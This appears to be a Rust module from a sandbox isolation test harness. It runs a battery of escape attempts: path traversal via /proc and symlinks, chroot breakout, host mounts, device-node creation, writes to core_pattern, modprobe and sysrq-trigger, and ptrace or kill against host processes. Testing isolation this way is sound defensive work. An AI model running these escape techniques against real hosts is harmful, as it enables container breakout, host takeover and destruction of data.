//! Ways out of the root, and to the host's files, sockets, devices and processes by name or number.

use super::{Attack, host_pid, told};
use crate::run::{self, say, sys};
use crate::show::R;
use std::ffi::{CStr, CString};

pub(super) const ATTACKS: &[Attack] =
    &[("paths", paths), ("root", root), ("nodes", nodes), ("sockets", sockets), ("host-pids", pids)];

fn c(s: &str) -> CString {
    CString::new(s).unwrap_or_default()
}

/// Every way in which a path could lead out: those that do are named.
fn paths() {
    let secret = told("secret").unwrap_or("/none");
    let name = secret.rsplit('/').next().unwrap_or("none");
    run::open(c"/", libc::O_PATH);
    let up = "../".repeat(40);
    let mut tried = vec![secret.to_string(), format!("/{up}{secret}"), format!("{up}{secret}")];
    for base in [
        "/proc/self/root",
        "/proc/1/root",
        "/proc/self/cwd",
        "/proc/1/cwd",
        "/proc/self/fd/3",
        "/proc/thread-self/root",
    ] {
        tried.extend([
            format!("{base}{secret}"),
            format!("{base}/{up}{secret}"),
            format!("{base}/../{name}"),
        ]);
    }
    // Links that lie in the root on the host, and lead out of it: absolute, relative, to a directory, to a link.
    for link in ["abs", "rel", "dir", "again", "proc"] {
        tried.extend([
            format!("/links/{link}"),
            format!("/links/{link}/{name}"),
            format!("/links/{link}/root/{secret}"),
        ]);
    }
    let mut found = Vec::new();
    for path in &tried {
        for flags in [libc::O_RDONLY, libc::O_RDWR, libc::O_PATH | libc::O_NOFOLLOW, libc::O_DIRECTORY] {
            let fd = run::open(&c(path), flags);
            if reads_secret(fd) || is_outside(fd) {
                found.push(path.clone());
            }
            run::close(fd);
        }
        let mut text = [0u8; 256];
        sys!(SYS_readlink, &*c(path), &mut text, 256);
        sys!(SYS_link, &*c(path), c"/tmp/hard");
        if reads_secret(run::open(c"/tmp/hard", libc::O_RDONLY | libc::O_NOFOLLOW)) {
            found.push(format!("link {path}"));
        }
        sys!(SYS_unlink, c"/tmp/hard");
    }
    let how = [0u64, 0, 0x10];
    let fd = sys!(SYS_openat2, 3, &*c(&up), &how, 24).fd();
    let inside = run::cat(c"/etc/inside") == b"inside\n";
    say!("found={found:?} openat2={} inside={inside}", !is_outside(fd));
}

pub(super) fn reads_secret(fd: i32) -> bool {
    if fd < 0 {
        return false;
    }
    let marker: Vec<u8> = told("marker").unwrap_or("-").bytes().map(|b| b ^ 1).collect();
    run::slurp(fd).windows(marker.len()).any(|w| w == marker)
}

/// A directory that has the secret in it.
pub(super) fn is_outside(fd: i32) -> bool {
    let name = told("secret").and_then(|s| s.rsplit('/').next()).unwrap_or("none");
    fd >= 0 && sys!(SYS_faccessat, fd, &*c(name), 0).ok()
}

/// What root can do in a guest: chroot and out again, mounts, pivots, machines that stop.
fn root() {
    let secret = told("secret").unwrap_or("/none");
    let name = secret.rsplit('/').next().unwrap_or("none");
    sys!(SYS_mkdir, c"/tmp/jail", 0o755);
    let here = run::open(c".", libc::O_RDONLY | libc::O_DIRECTORY);
    let chroot = run::fate(|| {
        let entered = sys!(SYS_chroot, c"/tmp/jail");
        sys!(SYS_fchdir, here);
        (0..64).for_each(|_| {
            sys!(SYS_chdir, c"..");
        });
        sys!(SYS_chroot, c".");
        i32::from(reads_secret(run::open(&c(secret), 0)) || sys!(SYS_access, &*c(name), 0).ok())
            + i32::from(entered.ok()) * 2
    });
    let mounts: Vec<String> = [
        (c"/", c"/tmp/jail", c"none", 4096 | 16384),
        (c"/proc/self/root/..", c"/tmp/jail", c"none", 4096),
        (c"/dev/sda", c"/tmp/jail", c"ext4", 0),
        (c"/dev/vda", c"/tmp/jail", c"ext4", 0),
        (c"/dev/root", c"/tmp/jail", c"hostfs", 0),
        (c"host", c"/tmp/jail", c"hostfs", 0),
        (c"host", c"/tmp/jail", c"virtiofs", 0),
        (c"host", c"/tmp/jail", c"9p", 0),
        (c"none", c"/tmp/jail", c"devtmpfs", 0),
    ]
    .iter()
    .map(|(what, at, kind, flags)| {
        let r = sys!(SYS_mount, *what, *at, *kind, *flags, 0);
        let fd = run::open(c"/tmp/jail/..", libc::O_PATH);
        let out = is_outside(fd) || is_outside(run::open(c"/tmp/jail", libc::O_PATH));
        sys!(SYS_umount2, *at, 2);
        if out { "out".into() } else { if r.ok() { "own".into() } else { "no".to_string() } }
    })
    .collect();
    let overlay = c(&format!(
        "lowerdir={},upperdir=/tmp/jail,workdir=/tmp",
        secret.rsplit_once('/').map_or("/", |s| s.0)
    ));
    sys!(SYS_mount, c"overlay", c"/tmp/jail", c"overlay", 0, &*overlay);
    let over = is_outside(run::open(c"/tmp/jail", libc::O_PATH));
    let calls = [
        ("pivot_root", sys!(SYS_pivot_root, c"/tmp/jail", c"/tmp/jail")),
        ("unshare", sys!(SYS_unshare, libc::CLONE_NEWNS)),
        ("setns", sys!(SYS_setns, run::open(c"/proc/1/ns/mnt", 0), 0)),
        ("handle", sys!(SYS_open_by_handle_at, here, &[8u32, 1, 2, 0], 0)),
        ("iopl", sys!(SYS_iopl, 3)),
        ("ioperm", sys!(SYS_ioperm, 0, 1024, 1)),
        ("init_module", sys!(SYS_init_module, 0, 0, c"")),
        ("kexec", sys!(SYS_kexec_load, 0, 0, 0, 0)),
        ("bpf", sys!(SYS_bpf, 0, 0, 0)),
        ("perf", sys!(SYS_perf_event_open, &[0u64; 16], -1, 0, -1, 0)),
        ("userfaultfd", sys!(SYS_userfaultfd, 0)),
        ("io_uring", sys!(SYS_io_uring_setup, 8, &mut [0u64; 16])),
        ("fanotify", sys!(SYS_fanotify_init, 0, 0)),
        ("settime", sys!(SYS_clock_settime, 0, &[0u64, 0])),
    ];
    let ok: Vec<&str> = calls.iter().filter(|(_, r)| r.ok()).map(|(n, _)| *n).collect();
    say!(
        "chroot={chroot} mounts={} overlay={over} ok={ok:?}",
        if mounts.iter().any(|m| m == "out") { "out" } else { "in" }
    );
}

/// Device nodes of the host's devices, and files that would speak for its kernel.
fn nodes() {
    let mut opened = Vec::new();
    let numbers = [
        (libc::S_IFBLK, 8, 0),
        (libc::S_IFBLK, 254, 0),
        (libc::S_IFBLK, 259, 0),
        (libc::S_IFBLK, 7, 0),
        (libc::S_IFCHR, 1, 1),
        (libc::S_IFCHR, 1, 2),
        (libc::S_IFCHR, 1, 4),
        (libc::S_IFCHR, 10, 200),
        (libc::S_IFCHR, 10, 232),
        (libc::S_IFCHR, 4, 0),
        (libc::S_IFCHR, 5, 1),
    ];
    for (kind, major, minor) in numbers {
        let path = c(&format!("/tmp/n{major}.{minor}"));
        sys!(SYS_mknod, &*path, kind | 0o666, libc::makedev(major, minor));
        for flags in [libc::O_RDONLY, libc::O_RDWR] {
            let fd = run::open(&path, flags | libc::O_NONBLOCK);
            if fd >= 0 {
                opened.push(format!("{major}:{minor}"));
                run::close(fd);
            }
        }
    }
    for path in [
        c"/dev/mem",
        c"/dev/kmem",
        c"/dev/port",
        c"/proc/kcore",
        c"/proc/kmem",
        c"/dev/kvm",
        c"/dev/fuse",
        c"/dev/net/tun",
        c"/dev/sda",
        c"/dev/vda",
        c"/dev/loop0",
    ] {
        if run::open(path, libc::O_RDONLY).wrapping_add(1) > 0 {
            opened.push(path.to_string_lossy().into_owned());
        }
    }
    // Files that the host acts upon when they are written to.
    let acts: &[(&CStr, &CStr)] = &[
        (c"/proc/sysrq-trigger", c"h"),
        (c"/proc/sys/kernel/core_pattern", c"|/tmp/x"),
        (c"/proc/sys/kernel/modprobe", c"/tmp/x"),
        (c"/proc/sys/kernel/hostname", c"taken"),
        (c"/proc/1/oom_score_adj", c"-1000"),
        (c"/sys/power/state", c"mem"),
        (c"/sys/kernel/uevent_helper", c"/tmp/x"),
    ];
    for (path, text) in acts {
        let fd = run::open(path, libc::O_WRONLY);
        sys!(SYS_write, fd, *text, text.count_bytes());
        run::close(fd);
    }
    sys!(SYS_sethostname, c"taken", 5);
    say!("opened={opened:?}");
}

/// Sockets and FIFOs that lie in the root on the host, with somebody of the host at their other end.
fn sockets() {
    let connect = |path: &[u8]| {
        let mut address = vec![1u8, 0];
        address.extend_from_slice(path);
        let s = sys!(SYS_socket, 1, 1 | libc::SOCK_NONBLOCK, 0).fd();
        let r = sys!(SYS_connect, s, address.as_slice(), address.len());
        sys!(SYS_write, s, c"hello", 5);
        r
    };
    let named = connect(b"/links/socket\0");
    let hidden = connect(&[b"\0", told("abstract").unwrap_or("none").as_bytes()].concat());
    let fifo = run::open(c"/links/fifo", libc::O_RDWR | libc::O_NONBLOCK);
    let wrote = sys!(SYS_write, fifo, c"hello", 5);
    let inet: Vec<String> =
        [2, 10, 16, 17, 40].iter().map(|family| sys!(SYS_socket, *family, 3, 0).sign()).collect();
    say!("named={named} abstract={hidden} fifo={} inet={inet:?}", wrote.sign());
}

/// Every call that takes a process number, with one of the host's.
fn pids() {
    let host = host_pid();
    let mut word = [0u64; 16];
    let iov = [word.as_mut_ptr() as usize, 8];
    let group = -host;
    let mut results: Vec<(&str, R)> = vec![
        ("ptrace", sys!(SYS_ptrace, 16, host, 0, 0)),
        ("seize", sys!(SYS_ptrace, 0x4206, host, 0, 0)),
        ("vm_readv", sys!(SYS_process_vm_readv, host, &iov, 1, &iov, 1, 0)),
        ("vm_writev", sys!(SYS_process_vm_writev, host, &iov, 1, &iov, 1, 0)),
        ("pidfd", sys!(SYS_pidfd_open, host, 0)),
        ("affinity", sys!(SYS_sched_setaffinity, host, 8, &[1u64])),
        ("getaffinity", sys!(SYS_sched_getaffinity, host, 8, &mut word)),
        ("scheduler", sys!(SYS_sched_setscheduler, host, 0, &[0u64])),
        ("priority", sys!(SYS_setpriority, 0, host, 19)),
        ("ioprio", sys!(SYS_ioprio_set, 1, host, 0x4000)),
        ("prlimit", sys!(SYS_prlimit64, host, 7, &[1u64, 1], 0)),
        ("kcmp", sys!(SYS_kcmp, host, host, 0, 0, 0)),
        ("getpgid", sys!(SYS_getpgid, host)),
        ("setpgid", sys!(SYS_setpgid, host, host)),
        ("getsid", sys!(SYS_getsid, host)),
        ("migrate", sys!(SYS_migrate_pages, host, 64, &word, &word)),
        ("robust", sys!(SYS_get_robust_list, host, &mut word, &mut [0u64])),
        ("clock", sys!(SYS_clock_gettime, !host << 3 | 2, &mut word)),
        ("madvise", sys!(SYS_process_madvise, host, &iov, 1, 21, 0)),
        ("waitid", sys!(SYS_waitid, 1, host, &mut word, libc::WEXITED | libc::WNOHANG, 0)),
        ("group", sys!(SYS_kill, group, 9)),
    ];
    for sig in [0, 9, 15, 19, 10] {
        let mut info = [0i32; 32];
        (info[0], info[2]) = (sig, -1);
        results.extend([
            ("kill", sys!(SYS_kill, host, sig)),
            ("tkill", sys!(SYS_tkill, host, sig)),
            ("tgkill", sys!(SYS_tgkill, host, host, sig)),
            ("sigqueue", sys!(SYS_rt_sigqueueinfo, host, sig, &info)),
            ("tgsigqueue", sys!(SYS_rt_tgsigqueueinfo, host, host, sig, &info)),
        ]);
    }
    let ok: Vec<&str> = results.iter().filter(|(_, r)| r.ok()).map(|(n, _)| *n).collect();
    let shown = std::path::Path::new(&format!("/proc/{host}")).exists();
    say!("ok={ok:?} shown={shown}");
}
